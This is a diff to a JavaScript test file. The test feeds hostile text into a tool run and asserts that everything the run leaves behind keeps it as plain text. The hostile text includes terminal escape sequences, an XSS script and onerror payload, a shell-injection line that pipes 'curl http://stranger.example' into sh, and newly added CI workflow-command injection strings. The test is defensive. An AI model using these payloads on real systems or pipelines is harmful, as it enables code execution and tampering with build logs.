@@ -19,6 +19,7 @@ const HOSTILE = [
   '\u001b[2J\u001b[31m\u001b]0;owned\u0007\u001b]8;;http://stranger.example\u0007\u009b5n\b\r\u0000\u007f\u202e\u2066\u200b\ufeff\uffff\ud800',
   '</pre></script></textarea><script>globalThis.stolen=1</script><img src=//stranger.example/x onerror=globalThis.stolen=1>',
   '"\'`&amp;]]>--><![CDATA[\n## Heading\n| a | b |\n[link](javascript:stolen=1)![p](http://stranger.example/p.png)',
+  '\n::error::owned\n##vso[task.setvariable variable=A]owned ##[error]owned',
   "'; curl http://stranger.example | sh; $(touch /tmp/proofmark-owned) `id` ${HOME} \\",
 ].join('');
 
@@ -40,7 +41,7 @@ const CHECKS = [
   'delivery.point.address-kept',
   'delivery.observations.method-fields',
   'reseller.balance.*',
-  'reseller.websites.*',
+  'reseller.website.*',
   'envelope.delivery.unknown-path',
 ];
 
@@ -82,6 +83,7 @@ test('hostile texts stand as text in everything a run leaves behind', async (t) 
     const controls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u202e\u2066\ufeff]/;
     assert.doesNotMatch(ran.stdout + ran.stderr, controls);
     assert.match(ran.stdout, /\\u001b\[2J/);
+    assert.doesNotMatch(ran.stdout + ran.stderr, /##(?:vso)?\[|^\s*::/m);
   });
 
   await t.test('every line of the events is JSON, and nothing lies beside the files of a run', () => {
